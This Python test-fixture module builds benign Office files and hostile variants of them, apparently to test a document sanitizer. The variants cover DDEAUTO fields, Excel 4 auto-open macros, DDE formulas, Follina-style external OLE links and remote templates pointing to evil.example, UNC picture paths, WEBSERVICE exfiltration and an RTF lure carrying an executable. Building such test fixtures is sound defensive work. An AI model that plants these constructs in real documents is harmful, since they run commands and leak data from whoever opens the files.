"""Office documents for the tests.

Benign documents come from python-docx, openpyxl and python-pptx; real macro-enabled
workbooks written by Excel come from the xlwings package (BSD licence; its quickstart
files carry a real VBA project). Each hostile variant adds one attack to a benign package,
the way the attack is delivered in the wild.
"""

from __future__ import annotations

import importlib.util
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import openpyxl
import pptx

from tests import builders

DOC_TEXT = ["令和6年度 予算説明資料", "The budget for the bear fence is 1,200,000 yen.", "担当: 総務課"]
CELLS = {"A1": "品目", "B1": "金額", "A2": "電気柵", "B2": 1200000, "A3": "看板", "B3": 45000}
SLIDE_TEXT = ("熊出没注意", "Bear warning for residents")

VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xlwings_file(name: str) -> bytes:
    spec = importlib.util.find_spec("xlwings")
    assert spec and spec.submodule_search_locations, "xlwings (a test dependency) is not installed"
    return (Path(list(spec.submodule_search_locations)[0]) / name).read_bytes()


def real_vba_project() -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlwings_file("quickstart.xlsm"))) as package:
        return package.read("xl/vbaProject.bin")


def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_heading(DOC_TEXT[0], 1)
    document.add_paragraph(DOC_TEXT[1])
    document.add_paragraph(DOC_TEXT[2])
    picture = io.BytesIO(builders.simple("PNG", (120, 80)))
    document.add_picture(picture)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "予算"
    for cell, value in CELLS.items():
        sheet[cell] = value
    sheet["B4"] = "=SUM(B2:B3)"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def pptx_bytes() -> bytes:
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = SLIDE_TEXT[0]
    slide.placeholders[1].text = SLIDE_TEXT[1]
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


class Package:
    """Edit a package as text, the way a malicious builder script does."""

    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def text(self, name: str) -> str:
        return self.parts[name].decode("utf-8")

    def put(self, name: str, data: bytes | str) -> None:
        self.parts[name] = data.encode("utf-8") if isinstance(data, str) else data

    def add_rel(self, rels: str, rel_id: str, rel_type: str, target: str, external: bool = False) -> None:
        mode = ' TargetMode="External"' if external else ""
        if rels not in self.parts:
            self.put(
                rels,
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
            )
        self.put(
            rels,
            self.text(rels).replace(
                "</Relationships>",
                f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/></Relationships>',
            ),
        )

    def content_type(self, part: str, content_type: str) -> None:
        self.put(
            "[Content_Types].xml",
            self.text("[Content_Types].xml").replace(
                "</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'
            ),
        )

    def main_type(self, old: str, new: str) -> None:
        self.put("[Content_Types].xml", self.text("[Content_Types].xml").replace(old, new))

    def body_append(self, xml: str) -> None:
        text = self.text("word/document.xml")
        self.put("word/document.xml", text.replace("<w:sectPr", xml + "<w:sectPr", 1))

    def bytes(self) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return out.getvalue()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docm_with_vba() -> bytes:
    package = Package(docx_bytes())
    package.put("word/vbaProject.bin", real_vba_project())
    package.add_rel("word/_rels/document.xml.rels", "rIdVba", VBA_REL, "vbaProject.bin")
    package.content_type("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    package.main_type(DOCX_MAIN, DOCM_MAIN)
    return package.bytes()


def activex_control() -> bytes:
    package = Package(docx_bytes())
    package.put(
        "word/activeX/activeX1.xml",
        '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStreamInit" r:id="rIdBin"/>',
    )
    package.put("word/activeX/activeX1.bin", b"\x00" * 64)
    package.add_rel(
        "word/activeX/_rels/activeX1.xml.rels",
        "rIdBin",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "activeX1.bin",
    )
    package.add_rel("word/_rels/document.xml.rels", "rIdAx", f"{REL_NS}/control", "activeX/activeX1.xml")
    package.content_type("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    package.content_type("/word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")
    package.body_append(
        '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CommandButton1"/></w:object></w:r></w:p>'
    )
    return package.bytes()


def ole_package_exe() -> bytes:
    package = Package(docx_bytes())
    package.put("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"MZ\x90\x00payload.exe" * 20)
    package.put("word/media/preview.png", builders.simple("PNG", (64, 64)))
    package.add_rel(
        "word/_rels/document.xml.rels", "rIdOle", f"{REL_NS}/oleObject", "embeddings/oleObject1.bin"
    )
    package.add_rel("word/_rels/document.xml.rels", "rIdPrev", f"{REL_NS}/image", "media/preview.png")
    package.content_type(
        "/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"
    )
    package.content_type("/word/media/preview.png", "image/png")
    package.body_append(
        '<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="p1" style="width:48pt;height:48pt">'
        '<v:imagedata r:id="rIdPrev" o:title="" xmlns:o="urn:schemas-microsoft-com:office:office"/></v:shape>'
        '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" '
        'ShapeID="p1" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
    )
    return package.bytes()


def remote_template(target: str) -> bytes:
    package = Package(docx_bytes())
    package.add_rel(
        "word/_rels/settings.xml.rels", "rIdTpl", f"{REL_NS}/attachedTemplate", target, external=True
    )
    settings = package.text("word/settings.xml")
    package.put(
        "word/settings.xml",
        re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1),
    )
    return package.bytes()


def ddeauto_field() -> bytes:
    package = Package(docx_bytes())
    package.body_append(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>cached result</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        "<w:p><w:fldSimple w:instr=\" DDE cmd '/c notepad' x \"><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>"
    )
    return package.bytes()


def altchunk() -> bytes:
    package = Package(docx_bytes())
    package.put(
        "word/afchunk.mht", "MIME-Version: 1.0\r\n\r\n<html><body><script>alert(1)</script></body></html>"
    )
    package.add_rel("word/_rels/document.xml.rels", "rIdAlt", f"{REL_NS}/aFChunk", "afchunk.mht")
    package.content_type("/word/afchunk.mht", "message/rfc822")
    package.body_append('<w:altChunk r:id="rIdAlt"/>')
    return package.bytes()


def hyperlinks() -> bytes:
    package = Package(docx_bytes())
    for rel_id, target in (
        ("rIdH1", "https://www.city.example.lg.jp/"),
        ("rIdH2", "file://///evil/share/x.exe"),
        ("rIdH3", "javascript:alert(1)"),
    ):
        package.add_rel("word/_rels/document.xml.rels", rel_id, f"{REL_NS}/hyperlink", target, external=True)
        package.body_append(
            f'<w:p><w:hyperlink r:id="{rel_id}"><w:r><w:t>link {rel_id}</w:t></w:r></w:hyperlink></w:p>'
        )
    return package.bytes()


def excel4_macro_sheet() -> bytes:
    package = Package(xlsx_bytes())
    package.put(
        "xl/macrosheets/sheet2.xml",
        '<?xml version="1.0"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
        '<f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>',
    )
    package.add_rel(
        "xl/_rels/workbook.xml.rels",
        "rIdMacro",
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        "macrosheets/sheet2.xml",
    )
    package.content_type("/xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml")
    workbook = package.text("xl/workbook.xml")
    workbook = re.sub(
        r"(<sheets>.*?)(</sheets>)",
        r'\1<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" name="Macro1" sheetId="9" state="hidden" r:id="rIdMacro"/>\2',
        workbook,
        flags=re.S,
    )
    workbook = workbook.replace(
        "</sheets>",
        '</sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>',
        1,
    )
    package.put("xl/workbook.xml", workbook)
    return package.bytes()


def external_workbook_link() -> bytes:
    package = Package(xlsx_bytes())
    package.put(
        "xl/externalLinks/externalLink1.xml",
        '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ddeService="cmd" '
        'ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
    )
    package.add_rel(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        "rId1",
        f"{REL_NS}/externalLinkPath",
        "file:///\\\\evil\\share\\book.xlsx",
        external=True,
    )
    package.add_rel(
        "xl/_rels/workbook.xml.rels", "rIdExt", f"{REL_NS}/externalLink", "externalLinks/externalLink1.xml"
    )
    package.content_type(
        "/xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    workbook = package.text("xl/workbook.xml")
    package.put(
        "xl/workbook.xml",
        workbook.replace(
            "</sheets>",
            '</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdExt"/></externalReferences>',
            1,
        ),
    )
    sheet = package.text("xl/worksheets/sheet1.xml")
    package.put(
        "xl/worksheets/sheet1.xml",
        sheet.replace(
            "</sheetData>", '<row r="9"><c r="A9"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row></sheetData>'
        ),
    )
    return package.bytes()


def rtf_with_objdata() -> bytes:
    """An RTF carrying an OLE1 Package object that holds an .exe (the classic lure)."""
    native = (
        b"\x02\x00"
        + b"evil.exe\x00"
        + b"C:\\evil.exe\x00"
        + b"\x00\x00\x03\x00"
        + len(b"C:\\evil.exe\x00").to_bytes(4, "little")
        + b"C:\\evil.exe\x00"
        + (64).to_bytes(4, "little")
        + b"MZ"
        + b"\x90" * 62
    )
    ole1 = (
        (0x0501).to_bytes(4, "little")
        + (2).to_bytes(4, "little")
        + (8).to_bytes(4, "little")
        + b"Package\x00"
        + (0).to_bytes(4, "little") * 2
        + len(native).to_bytes(4, "little")
        + native
    )
    return (
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Invoice attached. \\par"
        b"{\\object\\objemb\\objupdate{\\*\\objclass Package}\\objw1000\\objh1000{\\*\\objdata "
        + ole1.hex().encode()
        + b"}}\\par Thank you.\\par}"
    )


def libreoffice(work: Path, source: Path, target: str) -> Path:
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed (make test installs it)"
    subprocess.run(
        [
            soffice,
            "--headless",
            f"-env:UserInstallation=file://{work}/lo-profile",
            "--convert-to",
            target,
            "--outdir",
            str(work),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    produced = work / (source.stem + "." + target.split(":")[0])
    assert produced.exists(), f"LibreOffice did not produce {produced.name}"
    return produced


# ---------------------------------------------------------------- issue #8: attacks built from the spec
# Each builder plants one active item into a benign package the way ECMA-376 Part 1 allows
# it to be written (fields §17.16, formulas §18.17, relationships Part 2 §9.3, PowerPoint
# actions §19.7.x "ppaction" / §20.1.2.2.23 hlinkClick) or the way a public write-up
# delivered it (DDE in Word and Excel 2017, Follina's external oleObject 2022).
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT_S_NS = "http://purl.oclc.org/ooxml/spreadsheetml/main"
STRICT_REL_NS = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MARK = "benign paragraph stays"
CALC = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def _run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def _char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _instr(text: str, tag: str = "w:instrText", extra: str = "") -> str:
    return f'<w:r><{tag}{extra} xml:space="preserve">{text}</{tag}></w:r>'


def _docx_with(body: str) -> bytes:
    package = Package(docx_bytes())
    package.body_append(f"<w:p>{_run(MARK)}</w:p>{body}")
    return package.bytes()


def dde_split_across_runs() -> bytes:
    instruction = "".join(_instr(piece) for piece in (" DD", "E", "AUTO ", CALC))
    return _docx_with(f"<w:p>{_char('begin')}{instruction}{_char('separate')}{_run('cached')}{_char('end')}</w:p>")


def two_fields_second_dde() -> bytes:
    page = f"{_char('begin')}{_instr(' PAGE ')}{_char('separate')}{_run('1')}{_char('end')}"
    dde = f"{_char('begin')}{_instr(' DDEAUTO ' + CALC)}{_char('separate')}{_run('dde result')}{_char('end')}"
    return _docx_with(f"<w:p>{_run('page ')}{page}{_run(' then ')}{dde}</w:p>")


def nested_field_builds_dde() -> bytes:
    """{ { QUOTE "DDEAUTO" } cmd … }: the keyword comes from a nested field's result."""
    inner = f"{_char('begin')}{_instr(' QUOTE &quot;DDEAUTO&quot; ')}{_char('separate')}{_run('DDEAUTO')}{_char('end')}"
    return _docx_with(
        f"<w:p>{_char('begin')}{inner}{_instr(' ' + CALC)}{_char('separate')}{_run('outer result')}"
        f"{_char('end')}</w:p>"
    )


def field_across_paragraphs() -> bytes:
    return _docx_with(
        f"<w:p>{_char('begin')}</w:p><w:p>{_instr(' DDEAUTO ')}</w:p><w:p>{_instr(CALC)}{_char('separate')}"
        f"{_run('across result')}{_char('end')}</w:p>"
    )


def includepicture_unc_simple() -> bytes:
    return _docx_with(
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\\\\\evil.example\\\\share\\\\a.png&quot; \\d ">'
        f"{_run('picture result')}</w:fldSimple></w:p>"
    )


def hyperlink_field_to_file() -> bytes:
    field = f"{_char('begin')}{_instr(' HYPERLINK &quot;file:///C:/Windows/System32/calc.exe&quot; ')}"
    return _docx_with(f"<w:p>{field}{_char('separate')}{_run('click me')}{_char('end')}</w:p>")


def prefix_bound_elsewhere() -> bytes:
    """instrText under a prefix that is not "w" but is bound to the WordprocessingML namespace."""
    instruction = _instr(" DDEAUTO " + CALC, "x:instrText", f' xmlns:x="{W_NS}"')
    return _docx_with(f"<w:p>{_char('begin')}{instruction}{_char('separate')}{_run('cached')}{_char('end')}</w:p>")


def field_with_character_references() -> bytes:
    return _docx_with(
        f"<w:p>{_char('begin')}{_instr(' &#68;&#x44;E ' + CALC)}{_char('separate')}{_run('cached')}"
        f"{_char('end')}</w:p>"
    )


def attached_template_declared_as_hyperlink() -> bytes:
    package = Package(_docx_with(""))
    package.add_rel(
        "word/_rels/settings.xml.rels", "rIdTpl", f"{REL_NS}/hyperlink", "https://evil.example/t.dotm", True
    )
    settings = package.text("word/settings.xml")
    package.put(
        "word/settings.xml",
        re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1),
    )
    return package.bytes()


def _picture_package(name: str, data: bytes, content_type: str) -> bytes:
    package = Package(_docx_with(""))
    package.put(f"word/media/{name}", data)
    package.add_rel("word/_rels/document.xml.rels", "rIdPlanted", f"{REL_NS}/image", f"media/{name}")
    package.content_type(f"/word/media/{name}", content_type)
    document = package.text("word/document.xml")
    package.put("word/document.xml", re.sub(r'r:embed="[^"]+"', 'r:embed="rIdPlanted"', document, count=1))
    return package.bytes()


def svg_picture() -> bytes:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    return _picture_package("evil.svg", svg.encode(), "image/svg+xml")


def emf_picture() -> bytes:
    emf = b"\x01\x00\x00\x00" + b"\x00" * 36 + b" EMF" + b"\x00" * 64
    return _picture_package("image9.emf", emf, "image/x-emf")


def png_holding_html() -> bytes:
    return _picture_package("evil.png", b"<html><script>alert(1)</script></html>", "image/png")


def follina_external_ole() -> bytes:
    package = Package(_docx_with(""))
    package.add_rel(
        "word/_rels/document.xml.rels", "rIdFol", f"{REL_NS}/oleObject", "mhtml:http://evil.example/x.html!x", True
    )
    package.body_append(
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
        'ProgID="htmlfile" ShapeID="s1" DrawAspect="Content" r:id="rIdFol" UpdateMode="OnCall"/>'
        "</w:object></w:r></w:p>"
    )
    return package.bytes()


def alternate_content_fallback_ole() -> bytes:
    """The Choice is harmless, the Fallback carries an OLE object: both branches are judged."""
    package = Package(_docx_with(""))
    package.put("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)
    package.add_rel("word/_rels/document.xml.rels", "rIdOle", f"{REL_NS}/oleObject", "embeddings/oleObject1.bin")
    package.content_type("/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
    package.body_append(
        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        "<mc:Choice Requires=\"w14\"><w:t>choice text</w:t></mc:Choice><mc:Fallback><w:object>"
        '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" '
        'r:id="rIdOle"/></w:object></mc:Fallback></mc:AlternateContent></w:r></w:p>'
    )
    return package.bytes()


def settings_with_mail_merge_and_variables() -> bytes:
    package = Package(_docx_with(""))
    package.add_rel(
        "word/_rels/settings.xml.rels",
        "rIdSrc",
        f"{REL_NS}/mailMergeSource",
        "file:///\\\\evil.example\\share\\data.xlsx",
        True,
    )
    settings = package.text("word/settings.xml")
    planted = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\share\\data.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdSrc"/></w:mailMerge>'
        '<w:docVars><w:docVar w:name="payload" w:val="powershell -enc AAAA"/></w:docVars>'
    )
    package.put(
        "word/settings.xml", re.sub(r"(<w:settings[^>]*>)", lambda m: m.group(1) + planted, settings, count=1)
    )
    return package.bytes()


def document_with_dtd() -> bytes:
    package = Package(docx_bytes())
    document = package.text("word/document.xml")
    package.put(
        "word/document.xml",
        document.replace("?>", '?><!DOCTYPE w:document [<!ENTITY x "DDEAUTO">]>', 1),
    )
    return package.bytes()


# Spreadsheets
def _xlsx_with_formula(formula_xml: str, workbook_extra: str = "") -> bytes:
    package = Package(xlsx_bytes())
    sheet = package.text("xl/worksheets/sheet1.xml")
    package.put(
        "xl/worksheets/sheet1.xml",
        sheet.replace("</sheetData>", f'<row r="9">{formula_xml}</row></sheetData>'),
    )
    if workbook_extra:
        package.put("xl/workbook.xml", package.text("xl/workbook.xml").replace("<definedNames/>", workbook_extra))
    return package.bytes()


def formula_dde_by_character_reference() -> bytes:
    return _xlsx_with_formula("<c r=\"A9\"><f>cmd&#124;' /C calc'!A0</f><v>7</v></c>")


def formula_external_workbook() -> bytes:
    return _xlsx_with_formula(
        '<c r="A9"><f>[1]Sheet1!A1</f><v>11</v></c>'
        "<c r=\"B9\"><f>'C:\\Users\\x\\[book.xlsx]Sheet1'!A1*2</f><v>22</v></c>"
    )


def formula_webservice() -> bytes:
    return _xlsx_with_formula(
        '<c r="A9" t="str"><f>WEBSERVICE("http://evil.example/?"&amp;B2)</f><v>ws</v></c>'
        '<c r="B9" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/")</f><v>ws2</v></c>'
    )


def formula_user_defined_functions() -> bytes:
    """Formulas calling VBA user-defined functions (an .xlsm's module, gone with the macros),
    one with a Japanese name, and a LAMBDA parameter call that must stay."""
    return _xlsx_with_formula(
        '<c r="A9"><f>MyTax(B2)</f><v>120000</v></c>'
        '<c r="B9"><f>消費税(B2)</f><v>108000</v></c>'
        '<c r="C9"><f>_xlfn.LAMBDA(_xlpm.x,_xlpm.x*2)(B2)</f><v>2400000</v></c>'
    )


def formula_shared_dde_and_names() -> bytes:
    """A shared-formula master with DDE and its dependants; a defined name with a DDE link;
    a conditional format whose formula calls an add-in."""
    cells = (
        "<c r=\"A9\"><f t=\"shared\" ref=\"A9:C9\" si=\"0\">cmd|' /C calc'!A0</f><v>1</v></c>"
        '<c r="B9"><f t="shared" si="0"/><v>2</v></c><c r="C9"><f t="shared" si="0"/><v>3</v></c>'
    )
    names = "<definedNames><definedName name=\"pwn\">cmd|'/c calc'!A0</definedName></definedNames>"
    data = _xlsx_with_formula(cells, names)
    package = Package(data)
    sheet = package.text("xl/worksheets/sheet1.xml")
    package.put(
        "xl/worksheets/sheet1.xml",
        sheet.replace(
            "<pageMargins",
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
            "<formula>_xll.EvilAddin(A1)</formula></cfRule></conditionalFormatting><pageMargins",
        ),
    )
    return package.bytes()


def strict_sheet_with_dde() -> bytes:
    """The whole workbook in the strict OOXML namespaces, with a DDE formula."""
    package = Package(_xlsx_with_formula("<c r=\"A9\"><f>cmd|' /C calc'!A0</f><v>5</v></c>"))
    for name in list(package.parts):
        if name.endswith((".xml", ".rels")) and not name.startswith("docProps/") and name != "[Content_Types].xml":
            text = package.text(name)
            text = text.replace(S_NS, STRICT_S_NS).replace(REL_NS, STRICT_REL_NS)
            package.put(name, text)
    return package.bytes()


# Presentations
def pptx_action(action: str, target: str | None) -> bytes:
    package = Package(pptx_bytes())
    rel = ""
    if target is not None:
        package.add_rel("ppt/slides/_rels/slide1.xml.rels", "rIdAct", f"{REL_NS}/hyperlink", target, True)
        rel = 'r:id="rIdAct" '
    slide = package.text("ppt/slides/slide1.xml")
    package.put(
        "ppt/slides/slide1.xml",
        slide.replace(
            '<p:cNvPr id="2" name="Title 1"/>',
            f'<p:cNvPr id="2" name="Title 1"><a:hlinkClick {rel}action="{action}"/></p:cNvPr>',
            1,
        ),
    )
    return package.bytes()


# ---------------------------------------------------------------- richer benign documents
RICH_DOC_TEXT = ("見出しのある文書", "表の中身", "ヘッダーの文字", "フッターの文字", "コメントの本文")


def rich_docx() -> bytes:
    """Headers, footers, a table, a comment, a picture, a web link, a page-number field."""
    document = docx.Document()
    document.add_heading(RICH_DOC_TEXT[0], 1)
    paragraph = document.add_paragraph("本文 ")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = RICH_DOC_TEXT[1]
    section = document.sections[0]
    section.header.paragraphs[0].text = RICH_DOC_TEXT[2]
    section.footer.paragraphs[0].text = RICH_DOC_TEXT[3]
    document.add_comment(paragraph.runs, text=RICH_DOC_TEXT[4], author="総務課")
    document.add_picture(io.BytesIO(builders.simple("JPEG", (90, 60))))
    out = io.BytesIO()
    document.save(out)
    package = Package(out.getvalue())
    package.add_rel("word/_rels/document.xml.rels", "rIdWeb", f"{REL_NS}/hyperlink", "https://www.city.example.lg.jp/", True)
    package.body_append(
        '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>市のサイト</w:t></w:r></w:hyperlink>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return package.bytes()


def rich_xlsx() -> bytes:
    """A chart, a picture, a cell comment, validation, conditional format, names, a table, a link."""
    from openpyxl.chart import BarChart, Reference
    from openpyxl.comments import Comment
    from openpyxl.drawing.image import Image as SheetImage
    from openpyxl.formatting.rule import CellIsRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.table import Table

    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes()))
    sheet = workbook.active
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    sheet.add_image(SheetImage(io.BytesIO(builders.simple("PNG", (40, 30)))), "D20")
    sheet["A1"].comment = Comment("品目の説明", "総務課")
    validation = DataValidation(type="whole", operator="between", formula1="0", formula2="9999999")
    sheet.add_data_validation(validation)
    validation.add("B2:B3")
    sheet.conditional_formatting.add("B2:B3", CellIsRule(operator="greaterThan", formula=["100000"]))
    workbook.defined_names["合計"] = DefinedName("合計", attr_text="'予算'!$B$4")
    sheet.add_table(Table(displayName="Budget", ref="A1:B3"))
    sheet["C2"] = "=_xlfn.XLOOKUP(A2,Budget[品目],Budget[金額])"
    sheet["C3"] = '=HYPERLINK("https://www.city.example.lg.jp/","市")'
    sheet["A6"].hyperlink = "https://www.city.example.lg.jp/"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def rich_pptx() -> bytes:
    """A table, a chart, a picture, notes, a web link on a shape."""
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Inches

    deck = pptx.Presentation(io.BytesIO(pptx_bytes()))
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    table = slide.shapes.add_table(2, 2, Inches(0.5), Inches(0.5), Inches(4), Inches(1)).table
    table.cell(0, 0).text = "表のセル"
    data = CategoryChartData()
    data.categories = ["4月", "5月"]
    data.add_series("件数", (3, 5))
    slide.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Inches(0.5), Inches(2), Inches(4), Inches(3), data)
    picture = slide.shapes.add_picture(io.BytesIO(builders.simple("PNG", (50, 50))), Inches(5), Inches(1))
    picture.click_action.hyperlink.address = "https://www.city.example.lg.jp/"
    slide.notes_slide.notes_text_frame.text = "発表者メモ"
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def vml_linked_picture() -> bytes:
    """A legacy VML picture that loads from a web server and from a share when opened."""
    return _docx_with(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s9" style="width:10pt;height:10pt">'
        '<v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office" o:href="https://tracker.example/p.png" '
        'src="\\\\evil.example\\share\\p.png"/></v:shape></w:pict></w:r></w:p>'
    )


def pptx_ole_verb_on_show_start() -> bytes:
    """CVE-2014-4114 (Sandworm): an animation command fires an embedded object's OLE verb."""
    package = Package(pptx_bytes())
    timing = (
        '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" nodeType="tmRoot"><p:childTnLst>'
        '<p:cmd type="verb" cmd="3"><p:cBhvr><p:cTn id="2" dur="1000"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl>'
        "</p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>"
    )
    slide = package.text("ppt/slides/slide1.xml")
    package.put("ppt/slides/slide1.xml", slide.replace("</p:clrMapOvr>", "</p:clrMapOvr>" + timing, 1))
    return package.bytes()


def xlsx_shape_macros() -> bytes:
    """§20.5.2.29: a picture that runs a macro in a workbook on a share when clicked, and a
    chart frame with a macro and a text link into another book."""
    package = Package(rich_xlsx())
    drawing = package.text("xl/drawings/drawing1.xml")
    drawing = drawing.replace("<pic>", "<pic macro=\"'\\\\evil.example\\share\\[tools.xlsm]Sheet1'!Auto_Open\">", 1)
    drawing = drawing.replace("<graphicFrame>", '<graphicFrame macro="[0]!Evil" textlink="[1]Sheet1!A1">', 1)
    package.put("xl/drawings/drawing1.xml", drawing)
    return package.bytes()
